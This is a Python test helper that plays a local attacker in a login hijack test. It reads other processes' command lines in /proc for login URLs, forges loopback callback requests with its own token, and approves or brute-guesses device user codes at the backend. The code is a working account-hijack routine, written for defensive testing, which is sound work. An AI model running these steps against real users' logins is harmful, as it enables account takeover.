"""The local attacker of the login hijack test: another user who reads the login URL in /proc.

Started as root with ``python -I login_attacker.py SPEC`` (SPEC is JSON: ``uid``,
``backend``, ``markers``, ``token``, ``guesses``, ``wait``): it imports everything it
needs, drops to ``uid`` (65534, nobody) before anything else, prints ``ready``, and from
then on uses only what that user can see. It scans every ``/proc/<pid>/cmdline`` for
a URL containing one of ``markers`` (the browser the victim's login opened holds it in
its argv), then tries all it can with what it learnt, as the owner of the Trace account
of ``token``:

- forge the loopback callback of the old browser login
  (``GET|POST http://127.0.0.1:PORT/callback?state=S&token=TOKEN``) on every port the
  URL names, with every ``state`` it carries;
- approve, with its own account, every user code it can find or derive in the URL
  (query values, path segments, fragment) at the backend's approval endpoint
  (``POST /_control/device/approve``, which stands for "log in on the verification
  page and type a code");
- guess ``guesses`` random user codes there too.

Its last stdout line is a JSON report: its uid, the URLs it saw, every attempt and its
HTTP status (or error name).
"""

from __future__ import annotations

import encodings.idna  # noqa: F401  # looked up by host name encoding, once /root is closed to us
import http.client
import json
import os
import re
import secrets
import sys
import time
import urllib.parse
from pathlib import Path
from typing import Any

_ALPHABET = "BCDFGHJKLMNPQRSTVWXZ"  # the unambiguous letters of the test server's user codes
_CODE_CHARS = re.compile(r"[A-Za-z0-9]+")


def drop_privileges(uid: int) -> None:
    """Become ``uid`` for good (real, effective and saved ids; no supplementary groups)."""
    os.setgroups([])
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)


def login_urls(markers: list[str], own: int) -> list[str]:
    """URLs in other processes' argv that contain one of ``markers``."""
    found: list[str] = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == own:
            continue
        try:
            args = (entry / "cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        for raw in args:
            arg = raw.decode("utf-8", "replace")
            if arg.startswith(("http://", "https://")) and any(m in arg for m in markers):
                found.append(arg)
    return found


def send(method: str, url: str, body: bytes | None, kind: str) -> str:
    """The HTTP status of one request (or the error's name), never raising."""
    parts = urllib.parse.urlsplit(url)
    try:
        connection = http.client.HTTPConnection(parts.hostname or "", parts.port, timeout=5)
        target = parts.path + (f"?{parts.query}" if parts.query else "")
        headers = {"Content-Type": kind} if body is not None else {}
        connection.request(method, target or "/", body=body, headers=headers)
        status = str(connection.getresponse().status)
        connection.close()
        return status
    except (OSError, http.client.HTTPException) as exc:
        return type(exc).__name__


def code_candidates(url: str) -> list[str]:
    """Every string in ``url`` that could be (or be turned into) a user code."""
    parts = urllib.parse.urlsplit(url)
    pieces = [*parts.path.split("/"), parts.fragment]
    for values in urllib.parse.parse_qs(parts.query).values():
        pieces.extend(values)
    found: list[str] = []
    for piece in pieces:
        for chunk in (piece, *_CODE_CHARS.findall(piece)):
            for form in (chunk, chunk.upper()):
                found.append(form)
                letters = re.sub(r"[^A-Za-z0-9]", "", form)
                if len(letters) == 8:
                    found.append(f"{letters[:4]}-{letters[4:]}")
    return sorted({c for c in found if c})


def forge_callbacks(url: str, token: str) -> list[dict[str, str]]:
    """The old loopback callback, forged on every loopback port the URL names."""
    attempts: list[dict[str, str]] = []
    query = urllib.parse.parse_qs(urllib.parse.urlsplit(url).query)
    targets = [url, *query.get("redirect_uri", [])]
    states = query.get("state", []) or [""]
    ports = set()
    for target in targets:
        parts = urllib.parse.urlsplit(target)
        if parts.hostname in ("127.0.0.1", "localhost") and parts.port:
            ports.add(parts.port)
    for port in sorted(ports):
        for state in states:
            form = urllib.parse.urlencode({"state": state, "token": token})
            base = f"http://127.0.0.1:{port}/callback"
            attempts.append(
                {
                    "kind": "callback GET",
                    "target": base,
                    "result": send("GET", f"{base}?{form}", None, ""),
                }
            )
            attempts.append(
                {
                    "kind": "callback POST",
                    "target": base,
                    "result": send(
                        "POST", base, form.encode(), "application/x-www-form-urlencoded"
                    ),
                }
            )
    return attempts


def approve(backend: str, code: str, token: str) -> str:
    """Approve ``code`` as the account of ``token`` (what typing it on the page does)."""
    body = json.dumps({"user_code": code, "token": token}).encode()
    return send("POST", f"{backend}/_control/device/approve", body, "application/json")


def main() -> int:
    """Drop privileges, wait for a login URL, attack, print the report."""
    spec: dict[str, Any] = json.loads(sys.argv[1])
    drop_privileges(int(spec["uid"]))
    print("ready", flush=True)
    deadline = time.monotonic() + float(spec["wait"])
    seen: list[str] = []
    while not seen and time.monotonic() < deadline:
        seen = login_urls(list(spec["markers"]), os.getpid())
        if not seen:
            time.sleep(0.01)
    attempts: list[dict[str, str]] = []
    token = str(spec["token"])
    for url in sorted(set(seen)):
        attempts.extend(forge_callbacks(url, token))
        for code in code_candidates(url):
            attempts.append(
                {"kind": "approve", "target": code, "result": approve(spec["backend"], code, token)}
            )
    for _ in range(int(spec["guesses"])):
        code = "".join(secrets.choice(_ALPHABET) for _ in range(8))
        code = f"{code[:4]}-{code[4:]}"
        attempts.append(
            {"kind": "guess", "target": code, "result": approve(spec["backend"], code, token)}
        )
    report = {"uid": os.getuid(), "euid": os.geteuid(), "seen": seen, "attempts": attempts}
    print(json.dumps(report), flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
